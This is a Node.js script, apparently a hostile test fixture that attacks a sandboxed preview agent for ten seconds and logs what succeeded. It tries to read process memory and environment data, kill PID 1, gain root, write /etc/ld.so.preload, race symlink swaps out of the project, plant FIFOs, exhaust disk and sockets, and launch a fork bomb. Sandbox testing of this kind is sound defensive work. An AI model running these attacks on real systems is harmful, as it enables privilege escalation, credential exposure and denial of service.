// Many attacks at once for ten seconds; then it cleans up and writes what it got to /tmp/hostile.json.
import { spawn, spawnSync } from 'node:child_process'
import * as fs from 'node:fs'
import { connect } from 'node:net'

const SECONDS = 10
const report = { environment: process.env }

const attempt = (name, act) => {
  try {
    report[name] = `got: ${String(act()).slice(0, 4000)}`
  } catch (error) {
    report[name] = `refused: ${error.code}`
  }
}

const readMemory = () => {
  const file = fs.openSync('/proc/1/mem', 'r')
  return fs.readSync(file, Buffer.alloc(16), 0, 16, 0x400000)
}

const spy = () => {
  for (const name of ['environ', 'maps', 'syscall', 'auxv'])
    attempt(name, () => fs.readFileSync(`/proc/1/${name}`, 'latin1'))
  attempt('mem', readMemory)
  attempt('fd', () => fs.readdirSync('/proc/1/fd'))
  attempt('state', () => fs.readdirSync('/app/.preview-agent'))
  attempt('kill', () => process.kill(1, 'SIGKILL'))
  attempt('become root', () => process.setuid(0))
  // The directories above the project, the state and the prepared trees.
  attempt('move the state', () => fs.renameSync('/app/.preview-agent', '/app/state'))
  attempt('replace the project', () => fs.renameSync('/app/project', '/app/project.away'))
  attempt('plant a tree', () => fs.symlinkSync('/tmp/outside', '/opt/preview/prepared/planted'))
  attempt('preload', () => fs.writeFileSync('/etc/ld.so.preload', '/app/project/evil.so'))
}

const quietly = (act) => {
  try {
    act()
  } catch {
    // Another process was faster, or the disk is full.
  }
}

// The directory that is written to becomes a link to one outside, and back.
const swap = () => {
  quietly(() => fs.renameSync('src', 'src.away'))
  quietly(() => fs.symlinkSync('/tmp/outside', 'src'))
  quietly(() => fs.unlinkSync('src'))
  quietly(() => fs.renameSync('src.away', 'src'))
}

const fill = () => {
  quietly(() => {
    const file = fs.openSync('fill.bin', 'w')
    for (;;) fs.writeSync(file, Buffer.alloc(1 << 20))
  })
  setTimeout(() => quietly(() => fs.unlinkSync('fill.bin')), 200)
}

// A pipe where the agent writes or reads a file: an open without NONBLOCK waits for ever.
const plug = () => {
  for (const path of ['src/part3.ts', 'node_modules/.preview-stage']) {
    quietly(() => fs.rmSync(path, { recursive: true, force: true }))
    quietly(() => spawnSync('mkfifo', [path]))
  }
}

// A file of 1 TiB that takes no space, in place of one that the agent owns.
const inflate = () => quietly(() => fs.truncateSync('index.html', 2 ** 40))

// The place of the packages leads outside, for a moment.
const redirect = () => {
  quietly(() => fs.renameSync('node_modules', 'node_modules.away'))
  quietly(() => fs.symlinkSync('/tmp/outside', 'node_modules'))
  quietly(() => fs.unlinkSync('node_modules'))
  quietly(() => fs.renameSync('node_modules.away', 'node_modules'))
}

// Requests that are never finished, to both ports of the agent.
const sockets = []
const hold = () => {
  for (const port of [9464, 3001]) {
    for (let number = 0; number < 50 && sockets.length < 1500; number++) {
      const socket = connect(port, '127.0.0.1')
      socket.on('error', () => {})
      quietly(() => socket.write('GET /healthz HTTP/1.1\r\nhost: lo'))
      sockets.push(socket)
    }
  }
}

// Directories deeper than a stack or a table of descriptors allows for. Paths are too long for them, so each level is
// entered; and moved up again, to remove them.
const DIG = `fs.mkdirSync('deep'); process.chdir('deep'); for (let n = 0; n < 15000; n++) { fs.mkdirSync('a'); process.chdir('a') }`
const BURY = `process.chdir('deep'); for (;;) { try { fs.renameSync('a/a', 'b') } catch { break } fs.rmdirSync('a'); fs.renameSync('b', 'a') }
  fs.rmdirSync('a'); process.chdir('..'); fs.rmdirSync('deep')`
const inNode = (script) => ['--eval', `const fs = require('fs'); ${script}`]

const flood = () => {
  for (let line = 0; line < 500; line++) console.log(`flood ${'x'.repeat(200)}`)
}

spy()
spawn('node', inNode(DIG), { stdio: 'ignore' })
const bomb = spawn('sh', ['-c', 'bomb() { bomb | bomb & }; bomb; sleep 60'], { detached: true, stdio: 'ignore' })
bomb.on('error', () => {})
const loops = [
  setInterval(swap, 1),
  setInterval(redirect, 3),
  setInterval(fill, 700),
  setInterval(plug, 150),
  setInterval(inflate, 300),
  setInterval(hold, 100),
  setInterval(flood, 20),
]

setTimeout(() => {
  loops.forEach(clearInterval)
  for (const socket of sockets) socket.destroy()
  for (let round = 0; round < 20; round++) quietly(() => process.kill(-bomb.pid, 'SIGKILL'))
}, SECONDS * 1000)
setTimeout(
  () => {
    spy()
    spawnSync('node', inNode(BURY))
    for (const path of ['fill.bin', 'src.away', 'node_modules', 'node_modules.away', 'src/part3.ts'])
      fs.rmSync(path, { recursive: true, force: true })
    quietly(() => fs.lstatSync('src').isSymbolicLink() && fs.unlinkSync('src'))
    fs.writeFileSync('/tmp/hostile.json', JSON.stringify(report))
  },
  SECONDS * 1000 + 1000,
)
